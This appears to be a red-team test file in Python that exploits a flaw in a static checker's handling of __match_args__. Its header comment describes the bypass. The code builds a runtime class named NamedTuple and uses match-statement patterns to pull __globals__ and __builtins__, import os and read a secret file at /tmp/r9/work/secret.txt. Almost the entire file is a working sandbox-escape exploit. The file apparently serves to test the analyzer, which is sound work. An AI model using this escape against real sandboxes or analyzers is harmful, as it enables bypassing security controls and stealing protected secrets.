# family: red team, round 9 (base_named_namedtuple)
# _written_match_args counts a class as having written __match_args__ when a base's head name is NamedTuple,
# without resolving it: a local variable named NamedTuple holding a class made at run time (metaclass from
# __new__, see rt_014) supplies any __match_args__.
import abc


class Base(abc.ABC):
    def __new__(self):
        return type(self)


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    NamedTuple = Base()("P", (abc.ABC,), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})

    class Probe(NamedTuple):
        pass

    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
